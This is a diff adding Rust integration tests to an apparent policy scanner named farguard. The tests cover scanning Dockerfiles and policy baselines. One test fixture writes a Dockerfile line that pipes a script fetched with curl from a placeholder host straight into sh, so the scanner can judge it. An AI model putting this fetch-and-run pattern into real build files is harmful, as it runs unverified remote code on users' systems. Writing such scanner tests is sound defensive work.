@@ -131,3 +131,28 @@ fn explain_says_which_rule_decides_and_which_do_not_match() {
     assert!(run.stdout.lines().all(|line| line.chars().count() <= 100), "{}", run.stdout);
     assert_eq!(world.farguard(&["policy", "explain", "rootfs:rootfs"]).code, 2);
 }
+
+#[test]
+fn build_files_are_judged_too() {
+    let world = World::new();
+    world.write("Dockerfile", "FROM debian:12\nRUN curl http://x.example/i.sh | sh\n");
+    let run = world.farguard(&["scan", "Dockerfile", "--policy", "permissive"]);
+    assert_ne!(run.code, 2, "{}", run.stderr);
+}
+
+#[test]
+fn rules_see_owners_and_a_baseline_excuses_findings_but_no_demands() {
+    let world = World::new();
+    let rule = "name: p\nrules:\n  - id: r\n    when: {owner: team-a}\n    fail: [CONDITION]\n";
+    let check = |condition: &str, expect: i32| {
+        world.write("p.yaml", &rule.replace("CONDITION", condition));
+        let args = ["--policy", "p.yaml", "--owner", "team-a", "--allow-gaps"];
+        let (code, stdout, _) = scan(&world, &[&args[..], &["--format", "json"]].concat());
+        assert_eq!(code, 1, "{stdout}");
+        world.write("old.json", &stdout);
+        let (code, stdout, _) = scan(&world, &[&args[..], &["--baseline", "old.json"]].concat());
+        assert_eq!(code, expect, "{stdout}");
+    };
+    check("{severity: high}", 0);
+    check("{forbidden-packages: 'libc*'}", 1);
+}
